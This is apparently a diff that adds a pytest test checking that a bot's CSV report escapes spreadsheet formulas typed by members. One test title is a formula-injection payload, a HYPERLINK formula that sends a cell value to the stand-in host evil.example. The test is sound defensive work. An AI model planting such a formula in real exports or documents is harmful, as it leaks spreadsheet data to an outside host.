@@ -21,6 +21,7 @@ from bot.store.models import AuditEvent
 from tests.conftest import MEMBER, OTHER, REVIEW_CHANNEL, TSC, Bot
 from tests.e2e.test_jobs_cli import environment  # noqa: F401 (fixture)
 from tests.fakes.slack import FakeSlack
+from tests.helpers.factories import add_contribution, enrol
 from tests.integration.test_report import small_program
 
 FILE_CALLS = ["files.getUploadURLExternal", "upload", "files.completeUploadExternal"]
@@ -88,6 +89,28 @@ def test_the_command_line_in_each_format(
     assert main(["report", *period, "--format", "png", "-o", "q1.png"]) == 0
     picture = (tmp_path / "q1.png").read_bytes()
     assert picture[:8] == PNG_SIGNATURE and struct.unpack(">II", picture[16:24]) == (800, 640)
+
+
+@pytest.mark.usefixtures("environment")
+def test_the_csv_runs_no_formula_a_member_typed(db: Database, tmp_path: Path) -> None:
+    small_program(db)
+    member = enrol(db, "U0FORMULA", date(2026, 1, 1), "@SUM(1+1)")
+    add_contribution(db, member, date(2026, 2, 2), title='=HYPERLINK("http://evil.example/?x="&A1,"x")')
+    add_contribution(db, member, date(2026, 2, 3), title="-2+3 reasons to use AsyncAPI")
+
+    assert (
+        main(["report", "--period", "2026-Q1", "--as-of", "2026-03-15", "--format", "csv", "-o", "q.csv"])
+        == 0
+    )
+
+    rows = list(csv.DictReader(io.StringIO((tmp_path / "q.csv").read_text(encoding="utf-8"))))
+    theirs = [row for row in rows if row["member"].endswith("(1+1)")]
+    assert {row["member"] for row in theirs} == {"'@SUM(1+1)"}
+    assert sorted(row["title"] for row in theirs) == [
+        "'-2+3 reasons to use AsyncAPI",
+        '\'=HYPERLINK("http://evil.example/?x="&A1,"x")',
+    ]
+    assert {row["title"] for row in rows} >= {"KubeCon talk", "Events post"}  # the rest as typed
 
 
 @pytest.mark.usefixtures("environment")
